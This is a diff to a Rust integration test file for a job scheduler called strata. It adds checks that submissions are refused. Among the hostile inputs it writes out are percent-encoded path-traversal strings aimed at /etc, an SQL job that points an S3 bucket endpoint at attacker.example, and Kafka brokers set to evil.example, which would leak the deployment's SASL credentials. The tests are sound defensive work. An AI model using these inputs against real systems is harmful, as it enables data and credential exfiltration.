@@ -6,7 +6,7 @@ use std::path::{Path, PathBuf};
 use std::process::{Command, Output};
 
 use crate::flight::{certificates, users};
-use crate::lifecycle::{Daemon, free_port, wait_for};
+use crate::lifecycle::{Daemon, wait_for};
 use crate::{repo_root, stderr, stdout};
 
 /// `strata args` with `envs` (the login's password goes by environment, never by argument).
@@ -38,13 +38,17 @@ fn tiny_job(dir: &Path) -> PathBuf {
 }
 
 fn executor(scheduler: &str, dir: &Path) -> Daemon {
-    let http = format!("127.0.0.1:{}", free_port());
     #[rustfmt::skip]
     let exec = Daemon::start(&[
-        "--log", "info", "executor", "--scheduler", scheduler, "--vcores", "2", "--http-bind", &http, "--work-dir",
-        dir.join("executor").to_str().unwrap(),
-    ], &[], &[]);
-    wait_for(&http, "/readyz", 200, std::time::Duration::from_secs(30));
+        "--log", "info", "executor", "--scheduler", scheduler, "--vcores", "2", "--http-bind", "127.0.0.1:0",
+        "--work-dir", dir.join("executor").to_str().unwrap(),
+    ], &[], &["HTTP probes"]);
+    wait_for(
+        exec.addr("HTTP probes"),
+        "/readyz",
+        200,
+        std::time::Duration::from_secs(30),
+    );
     exec
 }
 
@@ -62,6 +66,14 @@ fn submissions_need_a_known_user_and_each_user_sees_only_their_runs() {
     let _exec = executor(&addr, dir.path());
     let job = tiny_job(dir.path());
     let job = job.to_str().unwrap();
+
+    // A login on the port Ballista's unauthenticated service shares would only look like protection.
+    #[rustfmt::skip]
+    let shared = cli(&[
+        "scheduler", "--bind", "0.0.0.0:0", "--warehouse", wh.to_str().unwrap(), "--users", users.to_str().unwrap(),
+    ], &[]);
+    assert!(!shared.status.success());
+    assert!(stderr(&shared).contains("needs --submit-bind"), "{}", stderr(&shared));
 
     let missing = cli(&["submit", job, "--scheduler", &addr], &[]);
     assert!(!missing.status.success());
@@ -182,6 +194,7 @@ fn submitted_jobs_stay_in_the_warehouse_and_the_allowed_roots_for_every_scheme()
     let sched = Daemon::start(&[
         "--log", "info", "scheduler", "--bind", "127.0.0.1:0", "--warehouse", wh.to_str().unwrap(), "--insecure",
         "--allow-location", shared.to_str().unwrap(), "--allow-location", "s3://lake/shared",
+        "--allow-location", "kafka://",
     ], &[], &["Scheduler"]);
     let addr = sched.addr("Scheduler").to_string();
     let submit = |location: &str, extra: &[&str]| {
@@ -212,6 +225,20 @@ fn submitted_jobs_stay_in_the_warehouse_and_the_allowed_roots_for_every_scheme()
         assert!(err.contains("outside what this scheduler allows"), "{escape}: {err}");
         assert!(err.contains("bronze.src"), "the error names the table: {err}");
     }
+    // Separators and dot segments hidden in percent-encoding (a reader would decode them).
+    for hidden in [
+        "..%2F..%2F..%2F..%2F..%2F..%2Fetc/",
+        "%2e%2e/%2e%2e/%2e%2e/etc/",
+        "s3://lake/shared/..%2Fother/",
+    ] {
+        let out = submit(hidden, &[]);
+        assert!(!out.status.success(), "{hidden} was accepted");
+        let err = stderr(&out);
+        assert!(
+            err.contains("percent-encoding") || err.contains("outside"),
+            "{hidden}: {err}"
+        );
+    }
     let lookalike = format!("{}-evil/", shared.display());
     assert!(
         !submit(&lookalike, &[]).status.success(),
@@ -224,6 +251,44 @@ fn submitted_jobs_stay_in_the_warehouse_and_the_allowed_roots_for_every_scheme()
     let moved = submit(&format!("{}/prices/", shared.display()), &["--warehouse", "/etc"]);
     assert!(!moved.status.success());
     assert!(stderr(&moved).contains("warehouse"), "{}", stderr(&moved));
+    // A submitted job cannot re-point a bucket at another endpoint (bucket settings are process-wide).
+    let job = dir.path().join("endpoint.sql");
+    std::fs::write(
+        &job,
+        "CREATE EXTERNAL TABLE bronze.src (symbol VARCHAR) STORED AS DELTA LOCATION 's3://lake/shared/t'\n\
+         OPTIONS ('endpoint' 'http://attacker.example:9000', 'allow_http' 'true');\n\
+         CREATE TABLE silver.out AS SELECT * FROM bronze.src;\n",
+    )
+    .unwrap();
+    let out = cli(&["submit", job.to_str().unwrap(), "--scheduler", &addr], &[]);
+    assert!(!out.status.success());
+    assert!(stderr(&out).contains("location options"), "{}", stderr(&out));
+    // Nor choose the Kafka brokers, or how to reach them (the deployment's SASL credentials would go along).
+    let job = dir.path().join("kafka.sql");
+    std::fs::write(
+        &job,
+        "CREATE EXTERNAL TABLE bronze.ticks (symbol VARCHAR) STORED AS KAFKA LOCATION 'kafka:///ticks'\n\
+         OPTIONS ('kafka.security.protocol' 'SASL_PLAINTEXT');\n\
+         CREATE TABLE silver.out AS SELECT * FROM bronze.ticks;\n",
+    )
+    .unwrap();
+    let out = cli(&["submit", job.to_str().unwrap(), "--scheduler", &addr], &[]);
+    assert!(!out.status.success());
+    assert!(
+        stderr(&out).contains("'kafka.security.protocol' is not taken"),
+        "{}",
+        stderr(&out)
+    );
+    #[rustfmt::skip]
+    let brokers = cli(&[
+        "submit", job.to_str().unwrap(), "--scheduler", &addr, "--kafka-brokers", "evil.example:9092",
+    ], &[]);
+    assert!(!brokers.status.success());
+    assert!(
+        stderr(&brokers).contains("cannot choose the Kafka brokers"),
+        "{}",
+        stderr(&brokers)
+    );
     // Kafka and PostgreSQL locations are confined by the same rule.
     for (location, format) in [
         ("kafka://evil.example:9092/ticks", "KAFKA"),
